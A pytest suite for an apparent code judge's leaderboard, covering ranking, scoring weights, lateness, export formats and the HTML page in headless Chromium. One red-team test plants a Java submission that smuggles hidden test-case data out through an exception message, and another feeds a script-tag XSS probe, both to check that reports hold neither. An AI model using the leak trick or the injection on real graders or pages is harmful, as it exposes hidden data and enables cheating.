"""The leaderboard: ranking rules with ties, group weights, every format, and the page in a real browser."""

import csv
import dataclasses
import io
import json
import re
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest

from judge.errors import ProblemError
from judge.problems.cases import load_cases
from judge.problems.problem import load_problem
from judge.results import gradescope, html as report_html, leaderboard, scoring, visibility
from judge.results.store import Store
from judge.verdict import CaseResult, FirstFailure, Recording, SubmissionResult, Verdict, overall

ROOT = Path(__file__).resolve().parent.parent
SUBS = ROOT / "submissions" / "minesweeper"
TESTS = "t" * 64
CASES = ["tiny", "big1", "big2", "big3"]
REFERENCE = {"tiny": 1.0, "big1": 10.0, "big2": 20.0, "big3": 40.0}  # ms; tiny is under the timed threshold


def judge(*args, timeout=120):
    """Run the real CLI from the worktree root."""
    return subprocess.run([sys.executable, "-m", "judge", *map(str, args)], cwd=ROOT, capture_output=True,
                          text=True, timeout=timeout)


def record(st, run, author, sha, verdicts, factor, when, cached_from=None):
    """A submission whose CPU time on every case is `factor` times the reference's."""
    cases = tuple(CaseResult(n, "secret", Verdict.from_name(v), time_ms=REFERENCE[n] * factor + 1,
                             cpu_ms=REFERENCE[n] * factor) for n, v in zip(CASES, verdicts, strict=True))
    passed = sum(v == "AC" for v in verdicts)
    result = SubmissionResult(f"{author}-{sha}.py", f"/{author}/{sha}.py", "python", overall(cases), cases,
                              sha256=sha, recording=Recording(author, cached_from is not None, when, passed, 4))
    return st.record(run, result, cached_from=cached_from)


def test_ranking_rules_with_ties(tmp_path):
    with Store.open(tmp_path / "r.sqlite3") as st:
        run = st.start_run("p", TESTS, 4, "test")
        st.save_reference_times(TESTS, {n: (t, t + 1) for n, t in REFERENCE.items()}, 3, "py")
        # alice: a failing first try, then an accepted one at 2.0x
        record(st, run, "alice", "a1", ["AC", "AC", "WA", "AC"], 1.0, "2024-01-01T10:00:00")
        record(st, run, "alice", "a2", ["AC"] * 4, 2.0, "2024-01-01T12:00:00")
        # bob: accepted and faster than everyone: first
        record(st, run, "bob", "b1", ["AC"] * 4, 1.0, "2024-01-01T13:00:00")
        # carol: 2.04x ties alice's 2.0x at one decimal, and was earlier: ahead of alice
        record(st, run, "carol", "c1", ["AC"] * 4, 2.04, "2024-01-01T11:00:00")
        # dave: 3.0x but graded again for real at 1.0x: the median of his gradings is 2.0x ... and
        # he was earliest of all, so he ties alice and carol on speed and beats both on time
        record(st, run, "dave", "d1", ["AC"] * 4, 3.0, "2024-01-01T09:00:00")
        record(st, run, "dave", "d1", ["AC"] * 4, 1.0, "2024-01-02T09:00:00")
        record(st, run, "dave", "d1", ["AC"] * 4, 2.0, "2024-01-03T09:00:00")
        # erin: very fast but wrong on a case: score first
        first = record(st, run, "erin", "e1", ["AC", "AC", "AC", "TLE"], 0.1, "2024-01-01T08:00:00")
        record(st, run, "erin", "e1", ["AC", "AC", "AC", "TLE"], 9.0, "2024-01-05T08:00:00", cached_from=first)
        # frank: passes only the tiny case: no timed case passed, no speed, after erin's equal... lower score
        record(st, run, "frank", "f1", ["AC", "WA", "WA", "WA"], 0.5, "2024-01-01T07:00:00")
        # gina: same score as erin (3/4) with no speed: after erin though earlier
        record(st, run, "gina", "g1", ["WA", "AC", "AC", "AC"], 100.0, "2024-01-01T06:00:00")
        entries = leaderboard.rank(st, "p", TESTS)
    order = [(e.rank, e.author, e.sha256) for e in entries]
    assert order == [(1, "bob", "b1"), (2, "dave", "d1"), (3, "carol", "c1"), (4, "alice", "a2"),
                     (5, "erin", "e1"), (6, "gina", "g1"), (7, "frank", "f1")]
    by = {e.author: e for e in entries}
    assert by["dave"].speed == pytest.approx(2.0) and by["dave"].submitted_at == "2024-01-01T09:00:00"
    assert by["dave"].attempts == 1 and by["alice"].attempts == 2
    assert by["erin"].speed == pytest.approx(0.1)  # the cached copy's times do not count
    assert by["gina"].speed == pytest.approx(100.0) and by["frank"].speed is None
    assert by["carol"].speed == pytest.approx(2.04)


def test_speed_uses_timed_cases_only_when_there_are_some():
    cases = [CaseResult("tiny", "secret", Verdict.AC, cpu_ms=5.0),
             CaseResult("big1", "secret", Verdict.AC, cpu_ms=30.0)]
    assert leaderboard.speed_ratio(cases, {"tiny": 1.0, "big1": 10.0}) == pytest.approx(3.0)
    assert leaderboard.speed_ratio(cases, {"tiny": 1.0, "big1": 2.0}) == pytest.approx(10.0)  # median of 5 and 15
    assert leaderboard.speed_ratio(cases, {}) is None


def test_group_weights_from_problem_yaml(tmp_path):
    copy = tmp_path / "weighted"
    shutil.copytree(ROOT / "problems" / "minesweeper", copy)
    yaml_path = copy / "problem.yaml"
    yaml_path.write_text(yaml_path.read_text() + "scoring:\n  groups: {sample: 0, secret: 2}\n")
    weights = scoring.weights(load_problem(str(copy)))
    assert weights == {"sample": 0.0, "secret": 2.0}
    cases = [CaseResult("a", "sample", Verdict.AC), CaseResult("b", "secret", Verdict.AC),
             CaseResult("c", "secret", Verdict.WA), CaseResult("d", "other", Verdict.AC)]
    assert scoring.score(cases, weights) == (3.0, 5.0)
    # A misspelt group would weigh nothing and leave the one meant at 1: every score wrong, silently
    yaml_path.write_text(yaml_path.read_text().replace("{sample: 0, secret: 2}", "{sampel: 0, secret: 2}"))
    with pytest.raises(ProblemError, match=r"scoring\.groups\.sampel: no case group of that name"):
        scoring.weights(load_problem(str(copy)))
    assert scoring.score(cases, {}) == (3.0, 4.0)
    yaml_path.write_text(yaml_path.read_text().replace("secret: 2", "secret: -1"))
    out = judge("grade", copy, SUBS / "accepted" / "bfs_class.py", "--no-store")
    assert out.returncode == 2 and "scoring.groups.secret" in out.stderr and str(yaml_path) in out.stderr
    # YAML's .nan passed `>= 0` and made every score NaN (sorted anyhow); all zero scores everyone 0 of 0
    for groups, message in (("{sample: 0, secret: .nan}", r"scoring\.groups\.secret: expected a number from 0"),
                            ("{sample: 0, secret: .inf}", r"scoring\.groups\.secret: expected a number from 0"),
                            ("{sample: 0, secret: 0, random: 0}", "every group weighs 0")):
        yaml_path.write_text(yaml_path.read_text().split("scoring:")[0] + f"scoring:\n  groups: {groups}\n")
        with pytest.raises(ProblemError, match=message):
            scoring.weights(load_problem(str(copy)))
    yaml_path.write_text(yaml_path.read_text().split("scoring:")[0] + "scoring:\n  groups: {sample: 0, secret: 0}\n")
    assert scoring.weights(load_problem(str(copy))) == {"sample": 0.0, "secret": 0.0}  # the random cases weigh 1
    # ... but a run without them scored everyone 0 of 0 (red-team round 19)
    out = judge("grade", copy, SUBS / "accepted" / "bfs_class.py", "--no-store", "--fuzz", "0")
    assert out.returncode == 2 and "every case of this run weighs 0" in out.stderr, out.stderr
    # ... and so did the leaderboard of results stored before the weights changed (round 21)
    yaml_path.write_text(yaml_path.read_text().split("scoring:")[0])
    db = tmp_path / "z.sqlite3"
    assert judge("grade", copy, SUBS / "accepted" / "bfs_class.py", "--db", db, "--fuzz", "0").returncode == 0
    yaml_path.write_text(yaml_path.read_text() + "scoring:\n  groups: {sample: 0, secret: 0}\n")
    out = judge("leaderboard", copy, "--db", db, "--format", "gradescope")
    assert out.returncode == 2 and "every case of this run weighs 0" in out.stderr, out.stderr


def test_a_changed_scoring_applies_to_what_was_graded_before(tmp_path):
    """Reproducibility review: the leaderboard kept each submission's score from its first grading,
    so after `scoring:` changed the gradebook contradicted `grade` and ranked the two the other way."""
    copy = tmp_path / "weighted"
    shutil.copytree(ROOT / "problems" / "minesweeper", copy)
    db = tmp_path / "r.sqlite3"
    subs = [SUBS / "wrong_answer" / "mine_noop.py", SUBS / "wrong_answer" / "four_way.py"]
    assert judge("grade", copy, *subs, "--fuzz", "0", "--db", db).returncode == 1

    def scores():
        doc = json.loads(judge("leaderboard", copy, "--db", db, "--format", "json").stdout)
        return {e["submission"].split("/")[-1]: (e["score"], e["max_score"]) for e in doc["entries"]}

    before = scores()
    assert before["mine_noop.py"][1] == before["four_way.py"][1] == 106
    yaml_path = copy / "problem.yaml"
    yaml_path.write_text(yaml_path.read_text() + "scoring:\n  groups: {sample: 50, secret: 1}\n")
    fresh = json.loads(judge("grade", copy, *subs, "--fuzz", "0", "--no-store", "--json").stdout)
    graded = {r["submission"].split("/")[-1]: (r["score"], r["max_score"]) for r in fresh["results"]}
    assert scores() == graded and graded["mine_noop.py"][1] == 204


def test_a_group_made_full_after_grading_shows_nothing_of_a_server_that_ran_hidden_cases(tmp_path):
    """Red-team round 19: graded while `worked` was `verdict` (one server for every case), a Java
    submission threw the secret cases' first rows in worked-1's exception; made `full` afterwards, the
    stored result was reused by grade and its first failure exported whole by the leaderboard. The fresh
    servers are now part of the set a result was graded on, and a result on another set shows such a
    case by verdict only."""
    package = tmp_path / "ms"
    shutil.copytree(ROOT / "problems" / "minesweeper", package)
    (package / "cases" / "worked").mkdir()
    (package / "cases" / "worked" / "one.yaml").write_text(
        (package / "cases" / "sample" / "examples.yaml").read_text().replace("example-", "worked-"))
    source = tmp_path / "Stash.java"
    source.write_text((SUBS / "accepted" / "dfs_recursive.java").read_text().replace(
        "    public char[][] updateBoard(char[][] board, int[] click) {\n",
        "    static java.util.List<String> seen = new java.util.ArrayList<>();\n"
        "    public char[][] updateBoard(char[][] board, int[] click) {\n"
        "        if (seen.size() > 50 && board.length == 4 && new String(board[1]).equals(\"EEMEE\"))\n"
        "            throw new RuntimeException(\"SEEN \" + String.join(\" \", seen));\n"
        "        seen.add(new String(board[0]));\n", 1))
    db = tmp_path / "r.sqlite3"
    first = json.loads(judge("grade", package, source, "--fuzz", "0", "--db", db, "--json").stdout)
    assert first["results"][0]["verdict"] == "RE"   # worked-1, after the secret cases, in one server
    assert judge("leaderboard", package, "--db", db).returncode == 0   # the reference's times stored
    yaml_path = package / "problem.yaml"
    good = yaml_path.read_text() + "visibility: {worked: full}\n"
    yaml_path.write_text(good)
    board = judge("leaderboard", package, "--db", db, "--format", "json")
    assert board.returncode == 0 and "SEEN" not in board.stdout
    assert "SEEN" in judge("leaderboard", package, "--db", db, "--format", "json", "--show-secret").stdout
    # Round 20: a case file broken as well (the package cannot say which set it grades now): still by verdict
    clicks = package / "cases" / "secret" / "clicks.yaml"
    kept = clicks.read_text()
    clicks.write_text(kept + "- name: broken\n  board: 3\n")
    board = judge("leaderboard", package, "--db", db, "--format", "json")
    assert board.returncode == 0 and "SEEN" not in board.stdout, board.stderr
    clicks.write_text(kept)
    # ... and problem.yaml broken (no policy to read): no case at all, and a warning that says why
    yaml_path.write_text(good.replace("time: 1.0", "time: 1.0s", 1))
    board = judge("leaderboard", "minesweeper", "--db", db, "--format", "json")  # the stored id: the copy
    assert board.returncode == 0 and "SEEN" not in board.stdout, board.stderr
    assert json.loads(board.stdout)["entries"][0]["cases"] == []
    assert "its package cannot be read" in board.stderr and "limits.time" in board.stderr
    yaml_path.write_text(good)
    again = json.loads(judge("grade", package, source, "--fuzz", "0", "--db", db, "--json").stdout)
    assert [(r["verdict"], r["cached"]) for r in again["results"]] == [("AC", False)]   # worked-1 in a fresh server


def test_a_case_moved_out_of_sample_after_grading_is_shown_at_its_new_level(tmp_path):
    """Red-team round 21: the exports read a case's level from the group stored with the result; a case
    the instructor moved from sample/ to secret/ after grading was still shown whole (its input, the
    answer, what the submission printed of it)."""
    package = tmp_path / "coin_change"
    shutil.copytree(ROOT / "problems" / "coin_change", package)
    (package / "cases" / "sample" / "zz.yaml").write_text(
        "- name: moved\n  coins: [4, 7]\n  amount: 9871\n  expected: 1411\n")
    source = tmp_path / "w.py"
    source.write_text("class Solution:\n    def coinChange(self, coins, amount):\n"
                      "        print('INPUT', coins, amount)\n        return 0\n")
    db = tmp_path / "r.sqlite3"
    assert judge("grade", package, source, "--fuzz", "0", "--db", db).returncode == 1

    def moved():
        doc = json.loads(judge("leaderboard", package, "--db", db, "--format", "json").stdout)
        return next(c for c in doc["entries"][0]["cases"] if c["name"] == "moved")

    assert moved()["message"] == "expected 1411, got 0"      # a sample case: shown whole
    (package / "cases" / "sample" / "zz.yaml").rename(package / "cases" / "secret" / "zz.yaml")
    shown = moved()
    assert (shown["message"], shown["time_ms"], shown["output"]) == ("", 0, ""), shown
    for fmt in ("markdown", "gradescope", "html", "junit"):
        assert "9871" not in judge("leaderboard", package, "--db", db, "--format", fmt).stdout, fmt
    # ... and Gradescope tags it as a case shown by verdict, not `visible` (its data gone, the tag was not)
    tests = json.loads(judge("leaderboard", package, "--db", db, "--format", "gradescope").stdout)["tests"]
    assert {t["name"]: t["visibility"] for t in tests}["moved"] == "after_published", tests
    # Round 22: renamed as it moved (its old name is not in the package now), or moved into a hidden group
    moved_file = package / "cases" / "secret" / "zz.yaml"
    moved_file.write_text(moved_file.read_text().replace("name: moved", "name: moved2"))
    assert moved()["message"] == ""
    (package / "cases" / "stress").mkdir()
    moved_file.write_text(moved_file.read_text().replace("name: moved2", "name: moved"))
    moved_file.rename(package / "cases" / "stress" / "zz.yaml")
    yaml_path = package / "problem.yaml"
    yaml_path.write_text(yaml_path.read_text() + "visibility: {stress: hidden}\n")
    for fmt in ("json", "html", "gradescope", "markdown"):
        assert "9871" not in judge("leaderboard", package, "--db", db, "--format", fmt).stdout, fmt


def test_the_same_name_in_two_languages_is_two_authors(tmp_path):
    """accepted/reversed_pair.py and accepted/reversed_pair.cpp: two authors, each ranked."""
    two_sum = ROOT / "tests" / "data" / "problems" / "two_sum"
    known = ROOT / "tests" / "data" / "submissions" / "two_sum"
    db = tmp_path / "r.sqlite3"
    pair = [known / "accepted" / "reversed_pair.py", known / "accepted" / "reversed_pair.cpp"]
    graded = judge("grade", two_sum, *pair, "--db", db, "--fuzz", "0", "--json")
    assert graded.returncode == 0, graded.stderr
    assert [r["author"] for r in json.loads(graded.stdout)["results"]] == ["reversed_pair.py", "reversed_pair.cpp"]
    board = json.loads(judge("leaderboard", "--db", db, "--format", "json").stdout)
    assert sorted(e["author"] for e in board["entries"]) == ["reversed_pair.cpp", "reversed_pair.py"]


# ------------------------------------------------------------------ formats, from a real grading run

#: Random cases in the graded run: the leaderboard must draw them again to time the reference.
RANDOM = 5
N = len(load_cases(load_problem("minesweeper"))) + RANDOM


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """A store with real results: an accepted, two wrong answers, a crash; and every format written."""
    folder = tmp_path_factory.mktemp("lb")
    db = folder / "r.sqlite3"
    subs = [SUBS / "accepted" / "bfs_class.py", SUBS / "wrong_answer" / "mine_noop.py",
            SUBS / "wrong_answer" / "four_way.py", SUBS / "runtime_error" / "crash.py"]
    out = judge("grade", "minesweeper", *subs, "--db", db, "--fuzz", str(RANDOM))
    assert out.returncode == 1, out.stderr
    files = {}
    for fmt in ("terminal", "markdown", "csv", "json", "junit", "html"):
        files[fmt] = folder / f"board.{fmt}"
        res = judge("leaderboard", "minesweeper", "--db", db, "--format", fmt, "--output", files[fmt])
        assert res.returncode == 0, res.stderr
    for fmt in ("json", "junit", "html"):  # the instructor's own view
        files[f"all-{fmt}"] = folder / f"all.{fmt}"
        res = judge("leaderboard", "minesweeper", "--db", db, "--format", fmt, "--show-secret",
                    "--output", files[f"all-{fmt}"])
        assert res.returncode == 0, res.stderr
    return db, files


def test_the_leaderboard_holds_records(graded):
    db, _ = graded
    with Store.open(db) as st:
        board = leaderboard.build(st, leaderboard.locate(st, "minesweeper"))
    assert isinstance(board, leaderboard.Leaderboard) and [e.rank for e in board.entries] == [1, 2, 3, 4]
    assert all(isinstance(c, CaseResult) and isinstance(c.verdict, Verdict) for e in board.entries for c in e.cases)
    assert list(board.case_names) == [c.name for c in board.entries[0].cases] and len(board.case_names) == N
    crash = next(e for e in board.entries if e.author == "crash.py")
    assert crash.verdict is Verdict.RE and crash.first_failure.case.verdict is Verdict.RE
    assert crash.first_failure.args and crash.first_failure.expected
    with pytest.raises(dataclasses.FrozenInstanceError):
        crash.rank = 1


def test_terminal_and_markdown(graded):
    db, files = graded
    text = files["terminal"].read_text()
    lines = text.splitlines()
    assert "rank" in lines[2] and "author" in lines[2] and lines[4].split()[:2] == ["1", "bfs_class.py"]
    assert judge("leaderboard", "--db", db).stdout.strip() == text.strip()  # the only problem stored: the default
    md = files["markdown"].read_text()
    assert md.startswith("# Leaderboard: Minesweeper") and "rank |" in md and "|--" in md.replace(" ", "")


def test_csv_and_json_parse_back(graded):
    _, files = graded
    rows = list(csv.DictReader(io.StringIO(files["csv"].read_text())))
    assert [r["author"] for r in rows][0] == "bfs_class.py" and [r["rank"] for r in rows] == ["1", "2", "3", "4"]
    assert rows[0]["verdict"] == "AC" and float(rows[0]["speed"]) > 0
    doc = json.loads(files["json"].read_text())
    assert doc["problem"] == "minesweeper" and doc["reference_measured"] is True and len(doc["cases"]) == N
    first, *rest = doc["entries"]
    assert first["verdict"] == "AC" and first["first_failure"] is None and len(first["cases"]) == N
    crash = next(e for e in rest if e["author"] == "crash.py")
    assert crash["verdict"] == "RE" and crash["first_failure"]["message"]


def test_junit_one_testcase_per_case_with_diffs(graded):
    _, files = graded
    root = ET.parse(files["all-junit"]).getroot()
    suites = root.findall("testsuite")
    assert len(suites) == 4 and all(len(s.findall("testcase")) == N for s in suites)
    four_way = next(s for s in suites if s.get("name").startswith("four_way"))
    failures = [c.find("failure") for c in four_way.findall("testcase") if c.find("failure") is not None]
    assert len(failures) == int(four_way.get("failures")) > 0
    assert failures[0].get("type") == "WA" and "expected" in failures[0].text
    assert int(root.get("tests")) == 4 * N


def test_gradescope_results_json(graded):
    db, _ = graded
    ambiguous = judge("leaderboard", "--db", db, "--format", "gradescope")
    assert ambiguous.returncode == 2 and "--author" in ambiguous.stderr
    doc = json.loads(judge("leaderboard", "--db", db, "--format", "gradescope", "--author", "mine_noop.py").stdout)
    assert "max_score" not in doc and doc["score"] == sum(t["score"] for t in doc["tests"])
    assert sum(t["max_score"] for t in doc["tests"]) == N and isinstance(doc["execution_time"], int)
    assert len(doc["tests"]) == N and {"name", "score", "max_score", "status", "output"} <= set(doc["tests"][0])
    failed = [t for t in doc["tests"] if t["status"] == "failed"]
    assert failed and all(t["output"].startswith("WA") and t["score"] == 0 for t in failed)
    assert {t["visibility"] for t in doc["tests"]} == {"visible", "after_published"}
    assert all(t["visibility"] == ("visible" if t["tags"] == ["sample"] else "after_published") for t in doc["tests"])
    assert doc["leaderboard"][0] == {"name": "rank", "value": 2, "order": "asc"}
    assert all(isinstance(v["value"], (int, float)) for v in doc["leaderboard"])


def test_junit_validates_against_the_xunit_schema(graded):
    """Both views against the Jenkins xunit plugin's junit-10.xsd, and read back by junitparser."""
    import junitparser
    import xmlschema

    schema = xmlschema.XMLSchema(str(ROOT / "tests" / "data" / "junit-10.xsd"))
    _, files = graded
    for name in ("junit", "all-junit"):
        schema.validate(str(files[name]))
        suites = {s.name.split(":")[0]: s for s in junitparser.JUnitXml.fromfile(str(files[name]))}
        assert set(suites) == {"bfs_class.py", "mine_noop.py", "four_way.py", "crash.py"}
        for suite in suites.values():
            results = [type(r).__name__ for case in suite for r in case.result]
            assert suite.tests == N and suite.failures == results.count("Failure")
            assert suite.errors == results.count("Error") and suite.skipped == results.count("Skipped")
        assert suites["bfs_class.py"].failures == suites["bfs_class.py"].errors == 0
        assert suites["four_way.py"].failures > 0 and suites["four_way.py"].errors == 0  # WA: failures
        assert suites["crash.py"].errors > 0                                             # RE: errors
        kinds = {(type(r).__name__, r.type) for suite in suites.values() for case in suite for r in case.result}
        assert {t for k, t in kinds if k == "Failure"} == {"WA"} and {t for k, t in kinds if k == "Error"} == {"RE"}
        crash = next(r for case in suites["crash.py"] for r in case.result if isinstance(r, junitparser.Error))
        assert crash.type == "RE" and crash.message.startswith("RE (runtime error)")


def test_gradescope_output_says_a_wrong_answer_once():
    cases = (CaseResult("trap", "secret", Verdict.WA, time_ms=1, message="expected 2, got 3",
                        diff=("expected 2, got 3", "and more"), got=3),
             CaseResult("big", "secret", Verdict.RE, time_ms=1, message="IndexError"))
    board = leaderboard.Leaderboard("coins", "Coins", TESTS, [leaderboard.Entry(
        1, "a", "a.py", "python", Verdict.WA, 0, 2, 0, 2, None, "2024", "s", 1, cases=cases)], ["trap", "big"], False)
    wrong, crashed = gradescope.entry_document(board, board.entries[0], visibility.EVERYTHING)["tests"]
    assert wrong["output"].startswith("WA (wrong answer): expected 2, got 3\nand more")
    assert wrong["output"].count("got 3") == 1 and crashed["output"].startswith("RE (runtime error): IndexError")


class _Collect(HTMLParser):
    """Counts of the tags and attributes the checks need."""

    def __init__(self):
        super().__init__()
        self.stack, self.rank_rows, self.heat_cells, self.wrong, self.external = [], 0, [], 0, []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "table":
            self.stack.append(attrs.get("id") or attrs.get("class"))
        if tag in ("link", "script", "img") or (attrs.get("src") or "").startswith("http"):
            self.external.append(tag)
        where = self.stack[-1] if self.stack else None
        if tag == "tr" and where == "ranking":
            self.rank_rows += 1
        if tag == "td" and where == "heatmap":
            self.heat_cells.append(attrs.get("title", ""))
        if tag == "td" and attrs.get("class") == "wrong":
            self.wrong += 1

    def handle_endtag(self, tag):
        if tag == "table" and self.stack:
            self.stack.pop()


def test_html_structure(graded):
    _, files = graded
    page = files["all-html"].read_text()
    parsed = _Collect()
    parsed.feed(page)
    assert parsed.rank_rows == 1 + 4            # header and one row per author
    assert len(parsed.heat_cells) == 4 * N    # submissions x cases, each with a tooltip
    assert any(": WA" in t and "expected" in t for t in parsed.heat_cells)
    assert parsed.wrong >= 2 * 3                # four_way and mine_noop: wrong cells in expected and got
    assert parsed.external == [] and "<style>" in page  # self-contained: nothing to fetch


def test_html_escapes_what_submissions_control():
    board = leaderboard.Leaderboard("p", "P", TESTS, [leaderboard.Entry(
        1, "<script>alert(1)</script>", "x.py", "python", Verdict.AC, 1, 1, 1, 1, None, "2024", "s", 1,
        cases=(CaseResult("c", "secret", Verdict.AC, time_ms=1, message="<b>"),))], ["c"], False)
    page = report_html.html(board)
    assert "<script>alert" not in page and "&lt;script&gt;" in page


def test_html_failure_of_a_scalar_answer_says_each_thing_once():
    wrong = CaseResult("greedy-trap", "secret", Verdict.WA, message="expected 2, got 3",
                       diff=("expected 2, got 3",), got=3)
    view = report_html.failure_view(FirstFailure(wrong, {"coins": [1, 3, 4], "amount": 6}, 2))
    assert view["message"] is None and view["diff"] == ("expected 2, got 3",)
    assert view["plain"] == [("coins", "[1, 3, 4]"), ("amount", "6"), ("expected", "2"), ("got", "3")]
    crashed = CaseResult("big", "secret", Verdict.RE, message="IndexError: list index out of range")
    assert report_html.failure_view(FirstFailure(crashed, {"coins": [1], "amount": 2}, 2))["message"] == \
        "IndexError: list index out of range"


def _png_colours(path: Path) -> tuple[tuple[int, int], set]:
    from PIL import Image
    with Image.open(path) as image:
        rgb = image.convert("RGB")
        return rgb.size, {colour for _, colour in rgb.getcolors(1 << 24)}


def _chromium() -> str | None:
    return shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.fixture(scope="module")
def graded_orders(tmp_path_factory):
    """Course Schedule II's page (a list answer, 2000-course inputs): an accepted, a wrong answer on a
    large case, a crash and a compile error."""
    folder = tmp_path_factory.mktemp("lb-orders")
    subs = ROOT / "submissions" / "course_schedule"
    out = judge("grade", "course_schedule", subs / "accepted" / "kahn_class.py",
                subs / "wrong_answer" / "forgets_isolated.py", subs / "runtime_error" / "key_error.py",
                subs / "compile_error" / "syntax_error.py", "--db", folder / "r.sqlite3", "--fuzz", "0")
    assert out.returncode == 1, out.stderr
    page = folder / "board.html"
    res = judge("leaderboard", "course_schedule", "--db", folder / "r.sqlite3", "--format", "html", "--show-secret",
                "--output", page)  # the instructor's view: the secret large case drawn
    assert res.returncode == 0, res.stderr
    return page


def test_html_of_a_list_answer_reads_as_lines(graded_orders):
    page = graded_orders.read_text()
    parsed = _Collect()
    parsed.feed(page)
    assert parsed.rank_rows == 1 + 4 and parsed.wrong == 0  # no wrong square: the answers are lists
    wrong = page[page.index("forgets_isolated.py · submissions/"):]
    wrong = wrong[:wrong.index("</section>")]
    assert '<table class="grid' not in wrong  # 2000 pairs are one line, not a 24-row strip
    assert "prerequisites: [[20, 1209], [1685, 865]," in page and "... 3987 more]" in page
    assert "missing courses 25, 55, 109," in page
    shown = re.findall(r'<div class="plain">(.*?)</div>', page)
    assert shown and max(map(len, shown)) < 200  # no input or answer printed whole
    ce = page[page.index("syntax_error.py · submissions/"):]
    assert ce.index('<pre class="message">line 5: SyntaxError') < ce.index("</section>")
    assert "case <code>" not in ce[:ce.index("</section>")]  # a compile error is about no case
    assert "/<wbr>" in page  # long paths break at their slashes, so the ranking fits the window


def _screenshot(page: Path, tmp_path: Path) -> set:
    """The page rendered by headless Chromium at 1280x900: the colours drawn."""
    browser = _chromium()
    if browser is None:
        pytest.skip("chromium is not installed (setup.sh installs Debian's chromium; CI runs this test)")
    shot = tmp_path / "board.png"
    cmd = [browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
           "--disable-component-update", "--disable-sync", "--no-first-run", f"--user-data-dir={tmp_path / 'profile'}",
           f"--screenshot={shot}", "--window-size=1280,900", page.resolve().as_uri()]
    run = subprocess.run(cmd, capture_output=True, text=True, timeout=90)
    assert shot.is_file() and shot.stat().st_size > 10_000, run.stderr[-2000:]
    size, colours = _png_colours(shot)
    assert size == (1280, 900)
    assert len(colours) > 50  # text, badges, cells: not a blank page
    return colours


def _near(colours: set, hex_colour: str) -> bool:
    want = tuple(int(hex_colour[i:i + 2], 16) for i in (1, 3, 5))
    return any(all(abs(a - b) <= 6 for a, b in zip(c, want, strict=True)) for c in colours)


def test_html_page_in_headless_chromium(graded, tmp_path):
    _, files = graded
    colours = _screenshot(files["html"], tmp_path)
    for verdict in ("AC", "WA", "RE"):  # the heatmap's and the badges' colours are drawn
        assert _near(colours, Verdict.from_name(verdict).colour), verdict
    assert _near(colours, "#37474f")  # the ranking table's header row


def test_course_schedule_page_in_headless_chromium(graded_orders, tmp_path):
    colours = _screenshot(graded_orders, tmp_path)
    for verdict in ("AC", "WA", "RE", "CE"):
        assert _near(colours, Verdict.from_name(verdict).colour), verdict


def test_html_keeps_compile_errors_lines_and_counts_what_it_cuts():
    compile_error = "bad.cpp:2:11: error: expected primary-expression\n    2 |   int x = ;\n      |           ^"
    ce = CaseResult("c", "sample", Verdict.CE, message=compile_error)
    wa = CaseResult("w", "sample", Verdict.WA, message="row 0", diff=tuple(f"row {i}" for i in range(15)), got=[1])
    entries = [leaderboard.Entry(i + 1, name, f"{name}.py", "python", case.verdict, 0, 1, 0, 1, None, "2024", "s", 1,
                                 cases=(case,), first_failure=FirstFailure(case, {"x": 1}, [2]))
               for i, (name, case) in enumerate((("ce", ce), ("wa", wa)))]
    page = report_html.html(leaderboard.Leaderboard("p", "P", TESTS, entries, ["c"], False))
    assert '<pre class="message">' + compile_error.replace(">", "&gt;") + "</pre>" in page
    assert "<li>row 11</li>" in page and "<li>row 12</li>" not in page and "3 more</li>" in page


# ------------------------------------------------------------------ classes: late, stale, missing, overheads

def handed(st, run, author, sha, factor, when, handin, language="python", verdicts=("AC",) * 4):
    """A submission with hand-in facts."""
    cases = tuple(CaseResult(n, "secret", Verdict.from_name(v), time_ms=REFERENCE[n] * factor + 1,
                             cpu_ms=REFERENCE[n] * factor) for n, v in zip(CASES, verdicts, strict=True))
    result = SubmissionResult(f"{author}.x", f"/{author}.x", language, overall(cases), cases, sha256=sha,
                              recording=Recording(author, False, when, sum(v == "AC" for v in verdicts), 4))
    return st.record(run, result, handin=handin)


def test_late_penalty_ranks_by_the_score_after_it_and_ties_go_by_hand_in_then_name(tmp_path):
    from judge.results.lateness import Policy
    from judge.results.records import Handin

    policy = Policy("2026-03-01T23:59:00+00:00", penalty=0.25, cap=0.5)
    with Store.open(tmp_path / "r.sqlite3") as st:
        run = st.start_run("p", TESTS, 4, "test")
        st.save_reference_times(TESTS, {n: (t, t + 1) for n, t in REFERENCE.items()}, 3, "py")
        handed(st, run, "late", "l1", 1.0, "2026-01-01T00:00:00", Handin("1", "Late", "", "2026-03-03T10:00:00+00:00"))
        handed(st, run, "zed", "z1", 2.0, "2026-01-01T00:00:00", Handin("2", "Zed", "", "2026-03-01T10:00:00+00:00"))
        handed(st, run, "amy", "a1", 2.0, "2026-01-02T00:00:00", Handin("3", "Amy", "", "2026-03-01T10:00:00+00:00"))
        handed(st, run, "canvas", "c1", 2.0, "2026-01-01T00:00:00", Handin("4", "", "", "", marked_late=True))
        # 11:00 at +02:00 is 09:00 UTC: earlier than the others, though later as text
        handed(st, run, "kai", "k1", 2.0, "2026-01-03T00:00:00", Handin("5", "Kai", "", "2026-03-01T11:00:00+02:00"))
        entries = leaderboard.rank(st, "p", TESTS, policy)
    assert [(e.author, e.score, e.raw_score, e.late, e.late_days, e.penalty) for e in entries] == [
        ("kai", 4.0, 4.0, False, 0, 0.0),          # the earliest hand-in of the equal ones
        ("amy", 4.0, 4.0, False, 0, 0.0),          # ties zed on score, speed and hand-in time: the name decides
        ("zed", 4.0, 4.0, False, 0, 0.0),
        ("canvas", 3.0, 4.0, True, 1, 0.25),       # marked late by its LMS: one started day
        ("late", 2.0, 4.0, True, 2, 0.5)]          # fastest, but 2 days late: the cap of 0.5
    assert entries[0].submitted_at == "2026-03-01T09:00:00.000000+00:00"  # shown and compared in UTC
    assert entries[1].graded_at == "2026-01-02T00:00:00"


def test_overheads_are_taken_off_each_language_and_the_reference():
    cases = [CaseResult(n, "secret", Verdict.AC, cpu_ms=REFERENCE[n] * 0.5 + 6.0) for n in CASES]
    reference = dict(REFERENCE)  # Python's overhead already taken off
    assert leaderboard.speed_ratio(cases, reference, overhead=6.0) == pytest.approx(0.5)
    assert leaderboard.speed_ratio(cases, reference) > 0.5         # the harness counted: slower than it is
    assert leaderboard.speed_ratio(cases, reference, overhead=1000.0) == 0.0  # never below zero


